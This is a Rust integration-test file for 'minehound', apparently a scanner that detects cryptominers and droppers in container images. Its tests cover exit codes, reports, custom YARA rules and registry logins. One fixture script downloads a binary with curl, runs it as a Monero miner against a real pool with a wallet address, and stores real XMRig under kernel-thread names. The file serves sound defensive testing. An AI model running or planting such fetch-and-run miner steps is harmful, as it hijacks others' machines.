//! The `minehound` command end to end, as a user runs it.

use std::fs::File;
use std::path::Path;

use assert_cmd::Command;
use minehound_testdata::{
    DEMO_CONFIG_PATH, DEMO_DROPPER_PATH, DEMO_REPO_TAG, Entry, ImageSpec, Layer, demo_image,
    write_docker_archive_classic, write_oci_layout,
};
use predicates::prelude::*;
use serde_json::Value;

mod admission;
mod bombs;
mod cache;
mod containment;
mod deploy;
mod escape;
mod gate;
mod integrations;
mod packaging;
mod push;
mod readme;
mod replicas;
mod serve;
mod storage;
mod thirdparty;

/// The repository's root directory.
fn repo_root() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// `minehound SERVE-ARGS` parses: clap refuses an unknown flag or a bad
/// value before --print-openapi prints and exits.
fn assert_command_line_accepted(serve_args: &[String]) {
    let output = minehound()
        .args(serve_args)
        .arg("--print-openapi")
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(String::from_utf8_lossy(&output.stdout).starts_with("openapi:"));
}

/// The binary, with no layer cache unless a test asks for one: tests build
/// images that reuse digests with different bytes on purpose.
fn minehound() -> Command {
    let mut cmd = Command::cargo_bin("minehound").unwrap();
    cmd.env("MINEHOUND_NO_CACHE", "true");
    cmd
}

fn demo_layout(dir: &Path) -> String {
    write_oci_layout(dir, &[(&demo_image().build(), Some("latest"))]).unwrap();
    format!("oci:{}", dir.display())
}

/// Runs minehound with `args` (and `stdin`), expects exit `code`, returns the JSON report.
fn scan_json(args: &[&str], stdin: Option<Vec<u8>>, code: i32) -> Value {
    let mut cmd = minehound();
    cmd.args(args);
    if let Some(bytes) = stdin {
        cmd.write_stdin(bytes);
    }
    json_of(&cmd.assert().code(code).get_output().stdout)
}

fn json_of(output: &[u8]) -> Value {
    serde_json::from_slice(output)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(output)))
}

#[test]
fn demo_fails_the_gate_with_json_findings() {
    let dir = tempfile::tempdir().unwrap();
    let target = demo_layout(dir.path());
    let report = scan_json(&["scan", "--format", "json", &target], None, 1);
    // The verdict line for CI logs goes to stderr, never into the JSON.
    minehound()
        .args(["scan", &target])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("gate at medium: FAIL"));
    assert_eq!(report["schema_version"], 1);
    let findings = report["findings"].as_array().unwrap();
    let dropper = findings
        .iter()
        .find(|f| f["path"] == DEMO_DROPPER_PATH)
        .expect("dropper");
    assert_eq!(dropper["status"], "deleted");
    assert_eq!(dropper["layer"]["index"], 1);
    assert_eq!(dropper["layer"]["created_by"], "COPY app/ /");
    assert_eq!(dropper["platform"], "linux/amd64");
    for key in ["rule", "detector", "severity", "sha256", "description"] {
        assert!(!dropper[key].is_null(), "{key}");
    }
    assert!(
        findings
            .iter()
            .any(|f| f["path"] == DEMO_CONFIG_PATH && f["status"] == "present")
    );
    let stats = &report["stats"];
    assert_eq!(
        stats["files"].as_u64().unwrap(),
        stats["files_scanned"].as_u64().unwrap() + stats["files_skipped"].as_u64().unwrap()
    );
    assert!(report["signatures"]["version"].as_str().unwrap().len() > 4);
    assert_eq!(report["images"][0]["layers"].as_array().unwrap().len(), 3);
}

#[test]
fn fail_on_moves_the_gate() {
    let dir = tempfile::tempdir().unwrap();
    let target = demo_layout(dir.path());
    // The demo has high findings and no critical one.
    minehound()
        .args(["scan", "-q", "--fail-on", "critical", &target])
        .assert()
        .code(0);
    minehound()
        .args(["scan", "-q", "--fail-on", "high", &target])
        .assert()
        .code(1);
    minehound()
        .args(["scan", "--fail-on", "severe", &target])
        .assert()
        .code(2);
}

#[test]
fn clean_image_exits_zero_and_table_reads_well() {
    let dir = tempfile::tempdir().unwrap();
    let clean = ImageSpec {
        layers: vec![Layer::gzip(
            "ADD hello /",
            vec![Entry::file("/etc/motd", "hello\n")],
        )],
        ..ImageSpec::default()
    }
    .build();
    write_oci_layout(dir.path(), &[(&clean, None)]).unwrap();
    minehound()
        .args([
            "scan",
            "--format",
            "table",
            &format!("oci:{}", dir.path().display()),
        ])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("No findings."))
        .stdout(predicate::str::contains("0 findings"));

    let demo = tempfile::tempdir().unwrap();
    minehound()
        .args(["scan", "--format", "table", &demo_layout(demo.path())])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(DEMO_DROPPER_PATH))
        .stdout(predicate::str::contains("deleted"));
}

/// Layers of a piped archive are buffered in TMPDIR and scanned by several
/// workers: the same report as one worker reading the stream alone, and a
/// clear error when TMPDIR cannot take them.
#[test]
fn piped_layers_scanned_in_parallel_give_the_same_report() {
    let mut archive = Vec::new();
    write_docker_archive_classic(&mut archive, &demo_image().build(), &[DEMO_REPO_TAG]).unwrap();
    let parallel = scan_json(
        &["scan", "-q", "--jobs", "2", "-"],
        Some(archive.clone()),
        1,
    );
    let serial = scan_json(
        &["scan", "-q", "--jobs", "1", "-"],
        Some(archive.clone()),
        1,
    );
    assert_eq!(parallel["findings"], serial["findings"]);
    assert_eq!(parallel["images"], serial["images"]);
    assert_eq!(parallel["stats"]["files"], serial["stats"]["files"]);

    minehound()
        .env("TMPDIR", "/nonexistent/minehound-tmp")
        .args(["scan", "-q", "--jobs", "2", "-"])
        .write_stdin(archive)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("TMPDIR"));
}

#[test]
fn docker_save_on_stdin_is_scanned() {
    let mut archive = Vec::new();
    write_docker_archive_classic(&mut archive, &demo_image().build(), &[DEMO_REPO_TAG]).unwrap();
    let report = scan_json(&["scan", "-q", "-"], Some(archive.clone()), 1);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["path"] == DEMO_DROPPER_PATH && f["status"] == "deleted")
    );

    // `docker save app | gzip | minehound scan -` too.
    minehound()
        .args(["scan", "-q", "-"])
        .write_stdin(minehound_testdata::gzip(&archive))
        .assert()
        .code(1);
    // Garbage on stdin is an error, not a clean pass.
    minehound()
        .args(["scan", "-"])
        .write_stdin(vec![7u8; 10_000])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("error"));
}

#[test]
fn output_file_receives_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report.json");
    minehound()
        .args([
            "scan",
            "-o",
            out.to_str().unwrap(),
            &demo_layout(&dir.path().join("img")),
        ])
        .assert()
        .code(1)
        .stdout(predicate::str::is_empty());
    let report = json_of(&std::fs::read(&out).unwrap());
    assert!(!report["findings"].as_array().unwrap().is_empty());
}

#[test]
fn unreadable_targets_exit_two_with_a_reason() {
    minehound()
        .args(["scan", "oci:/nonexistent/layout"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("/nonexistent/layout"));
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.tar");
    std::fs::write(&bad, b"not a tar at all").unwrap();
    minehound()
        .args(["scan", &format!("docker-archive:{}", bad.display())])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("not a tar archive"));
}

#[test]
fn user_rules_and_hashes_extend_or_replace_the_bundled_set() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("team.yar");
    std::fs::write(
        &rules,
        "rule TeamMarker {\n  meta:\n    id = \"TEAM-001\"\n    severity = \"critical\"\n    description = \"team marker\"\n  strings:\n    $a = \"team-secret-marker\"\n  condition:\n    $a\n}\n",
    )
    .unwrap();
    let image = ImageSpec {
        layers: vec![Layer::gzip(
            "COPY x /",
            vec![Entry::file("/opt/x.txt", "a team-secret-marker b\n")],
        )],
        ..ImageSpec::default()
    }
    .build();
    let layout = dir.path().join("img");
    write_oci_layout(&layout, &[(&image, None)]).unwrap();
    let target = format!("oci:{}", layout.display());
    let report = scan_json(
        &[
            "scan",
            "-q",
            "--no-default-signatures",
            "--rules",
            rules.to_str().unwrap(),
            &target,
        ],
        None,
        1,
    );
    assert_eq!(report["findings"][0]["rule"], "TEAM-001");
    assert_eq!(report["findings"][0]["severity"], "critical");
    assert_eq!(report["signatures"]["bundled"], false);

    // A hash list: the file's sha256 marks it as a known build.
    let digest = minehound_testdata::sha256_hex(b"a team-secret-marker b\n");
    let hashes = dir.path().join("h.tsv");
    std::fs::write(
        &hashes,
        format!("{digest}\tteam\thigh\tmarker file\tunit test\n"),
    )
    .unwrap();
    let output = scan_json(
        &[
            "scan",
            "-q",
            "--no-default-signatures",
            "--hashes",
            hashes.to_str().unwrap(),
            &target,
        ],
        None,
        1,
    );
    assert_eq!(output["findings"][0]["detector"], "sha256");

    // A rule that does not compile names its file and line.
    let broken = dir.path().join("broken.yar");
    std::fs::write(
        &broken,
        "rule Ok { condition: true }\n\nrule Broken {\n  condition: $missing\n}\n",
    )
    .unwrap();
    minehound()
        .args(["scan", "--rules", broken.to_str().unwrap(), &target])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("broken.yar:4"));
    minehound()
        .args(["rules", "check", broken.to_str().unwrap()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("broken.yar:4"));
}

#[test]
fn rules_list_and_version_name_the_signature_set() {
    let version = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../signatures/VERSION"
    ))
    .unwrap();
    minehound()
        .arg("--version")
        .assert()
        .code(0)
        .stdout(predicate::str::contains(version.trim()));
    minehound()
        .args(["rules", "list"])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("MH-"))
        .stdout(predicate::str::contains("critical"));
}

#[test]
fn a_real_xmrig_image_is_critical() {
    let xmrig = minehound_testdata::samples::xmrig().expect("fetch XMRig from PyPI");
    let dir = tempfile::tempdir().unwrap();
    let image = ImageSpec {
        layers: vec![Layer::gzip(
            "RUN install",
            vec![Entry::executable("/usr/sbin/kswapd0", xmrig)],
        )],
        ..ImageSpec::default()
    }
    .build();
    let archive = dir.path().join("app.tar");
    write_docker_archive_classic(File::create(&archive).unwrap(), &image, &["app:1"]).unwrap();
    let report = scan_json(
        &[
            "scan",
            "-q",
            "--fail-on",
            "critical",
            archive.to_str().unwrap(),
        ],
        None,
        1,
    );
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["path"] == "/usr/sbin/kswapd0" && f["severity"] == "critical")
    );
}

mod registry {
    //! `minehound scan REFERENCE` against real registry processes, with the
    //! credential sources a user has.

    use std::os::unix::fs::PermissionsExt;
    use std::path::Path;

    use minehound_testdata::registry::{
        Auth, RegistryProcess, base64, generate_tls, htpasswd_file, push_image,
    };

    use super::*;

    pub(crate) const PASSWORD: &str = "pa55-for-minehound";

    pub(crate) struct Secure {
        _plain: RegistryProcess,
        registry: RegistryProcess,
        ca: std::path::PathBuf,
        target: String,
    }

    pub(crate) fn secure_registry(dir: &Path) -> Secure {
        let storage = dir.join("storage");
        let plain = RegistryProcess::start(&dir.join("work"), &storage, None, &Auth::None).unwrap();
        push_image(&plain.host, "team/app", "1.4", &demo_image().build()).unwrap();
        let tls = generate_tls(&dir.join("tls")).unwrap();
        let htpasswd = htpasswd_file(dir, "robot", PASSWORD).unwrap();
        let registry = RegistryProcess::start(
            &dir.join("work"),
            &storage,
            Some(&tls),
            &Auth::Htpasswd(htpasswd),
        )
        .unwrap();
        let target = format!("{}/team/app:1.4", registry.host);
        Secure {
            _plain: plain,
            registry,
            ca: tls.ca_cert,
            target,
        }
    }

    pub(crate) fn scan_cmd(secure: &Secure, config_dir: &Path) -> Command {
        let mut cmd = minehound();
        cmd.args([
            "scan",
            "-q",
            "--ca-file",
            secure.ca.to_str().unwrap(),
            &secure.target,
        ])
        .env("DOCKER_CONFIG", config_dir)
        .env_remove("REGISTRY_AUTH_FILE")
        .env("XDG_RUNTIME_DIR", config_dir.join("no-runtime-dir"));
        cmd
    }

    #[test]
    fn password_stdin_docker_config_and_credential_helpers_all_authenticate() {
        let dir = tempfile::tempdir().unwrap();
        let secure = secure_registry(dir.path());
        let empty = dir.path().join("empty-config");
        std::fs::create_dir_all(&empty).unwrap();

        // No credentials at all: a clear error, exit 2.
        let out = scan_cmd(&secure, &empty)
            .assert()
            .code(2)
            .get_output()
            .clone();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(&secure.registry.host), "{stderr}");

        // --username with --password-stdin.
        let out = scan_cmd(&secure, &empty)
            .args(["--username", "robot", "--password-stdin"])
            .write_stdin(format!("{PASSWORD}\n"))
            .assert()
            .code(1)
            .get_output()
            .clone();
        assert!(!String::from_utf8_lossy(&out.stdout).contains(PASSWORD));

        // A wrong password: exit 2, and the secret appears nowhere.
        let out = scan_cmd(&secure, &empty)
            .args(["--username", "robot", "--password-stdin"])
            .write_stdin("not-the-password\n")
            .assert()
            .code(2)
            .get_output()
            .clone();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!all.contains("not-the-password"), "{all}");

        // The Docker config's `auths`.
        let config = dir.path().join("docker-auths");
        std::fs::create_dir_all(&config).unwrap();
        let auth = base64(format!("robot:{PASSWORD}").as_bytes(), false);
        std::fs::write(
            config.join("config.json"),
            format!(
                r#"{{"auths":{{"{}":{{"auth":"{auth}"}}}}}}"#,
                secure.registry.host
            ),
        )
        .unwrap();
        let out = scan_cmd(&secure, &config)
            .assert()
            .code(1)
            .get_output()
            .clone();
        assert!(!String::from_utf8_lossy(&out.stdout).contains(PASSWORD));

        // A credential helper named by `credHelpers`, called by its protocol.
        let helpers = dir.path().join("bin");
        std::fs::create_dir_all(&helpers).unwrap();
        let helper = helpers.join("docker-credential-minehoundtest");
        std::fs::write(
            &helper,
            format!(
                "#!/bin/sh\n[ \"$1\" = get ] || exit 1\nread server\necho \"{{\\\"ServerURL\\\":\\\"$server\\\",\\\"Username\\\":\\\"robot\\\",\\\"Secret\\\":\\\"{PASSWORD}\\\"}}\"\n"
            ),
        )
        .unwrap();
        std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
        let config = dir.path().join("docker-helpers");
        std::fs::create_dir_all(&config).unwrap();
        std::fs::write(
            config.join("config.json"),
            format!(
                r#"{{"credHelpers":{{"{}":"minehoundtest"}}}}"#,
                secure.registry.host
            ),
        )
        .unwrap();
        let path = format!("{}:{}", helpers.display(), std::env::var("PATH").unwrap());
        scan_cmd(&secure, &config)
            .env("PATH", path)
            .assert()
            .code(1);

        // podman's auth file, named by $REGISTRY_AUTH_FILE.
        let podman = dir.path().join("podman-auth.json");
        std::fs::write(
            &podman,
            format!(
                r#"{{"auths":{{"{}":{{"auth":"{auth}"}}}}}}"#,
                secure.registry.host
            ),
        )
        .unwrap();
        scan_cmd(&secure, &empty)
            .env("REGISTRY_AUTH_FILE", &podman)
            .assert()
            .code(1);

        // Without the CA, TLS is not trusted...
        minehound()
            .args(["scan", "-q", &secure.target])
            .env("DOCKER_CONFIG", &config)
            .assert()
            .code(2);
        // ...unless the user names the host insecure.
        minehound()
            .args([
                "scan",
                "-q",
                "--insecure-registry",
                &secure.registry.host,
                &secure.target,
            ])
            .env("DOCKER_CONFIG", &config)
            .env(
                "PATH",
                format!("{}:{}", helpers.display(), std::env::var("PATH").unwrap()),
            )
            .assert()
            .code(1);
    }
}

#[test]
fn rules_check_shows_matching_rules_and_strings_per_file() {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("start.sh");
    std::fs::write(
        &script,
        "#!/bin/sh\ncurl -sL https://example.invalid/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\n",
    )
    .unwrap();
    let clean = dir.path().join("hello.txt");
    std::fs::write(&clean, "hello\n").unwrap();
    let own = dir.path().join("own.yar");
    std::fs::write(
        &own,
        "rule Hello { meta: id = \"MY-HELLO\" strings: $h = \"hello\" condition: $h }\n",
    )
    .unwrap();
    let text = rules_check(&[&own, &script, &clean]);
    let (first, second) = text.split_once("hello.txt").unwrap();
    assert!(first.contains("MH-DROPPER-SCRIPT high"), "{text}");
    assert!(first.contains("MH-MONERO-WALLET high"), "{text}");
    assert!(first.contains(", confirmed"), "{text}");
    assert!(first.contains("$ex1 @0x"), "{text}");
    assert!(first.contains("\"chmod +x\""), "{text}");
    assert!(second.contains("MY-HELLO high"), "{text}");
    assert!(second.contains("$h @0x0: \"hello\""), "{text}");
}

/// `rules check` on a UPX-packed XMRig (the real upx output) shows the
/// packed file, then what it unpacks to and why the family rule matches it.
#[test]
fn rules_check_shows_what_a_packed_file_unpacks_to() {
    let dir = tempfile::tempdir().unwrap();
    let packed = dir.path().join("kworker");
    std::fs::write(
        &packed,
        minehound_testdata::samples::upx_packed_xmrig("lzma").expect("pack XMRig with upx"),
    )
    .unwrap();
    let text = rules_check(&[&packed]);
    let (outer, inner) = text
        .split_once("kworker!upx-unpacked (Elf, 4998584 bytes")
        .unwrap();
    assert!(outer.contains("MH-ELF-UPX-PACKED medium"), "{text}");
    assert!(
        inner.contains(minehound_testdata::samples::XMRIG_SHA256),
        "{text}"
    );
    assert!(inner.contains("MH-XMRIG-ELF critical"), "{text}");
    assert!(inner.contains("$opt4 @0x"), "{text}");
    assert!(
        inner.contains("MH-KNOWN-MINER-HASH critical (sha256 detector)"),
        "{text}"
    );
}

/// What `minehound rules check PATHS` prints; it must succeed.
fn rules_check(paths: &[&std::path::Path]) -> String {
    let output = minehound()
        .args(["rules", "check"])
        .args(paths)
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    String::from_utf8(output).unwrap()
}
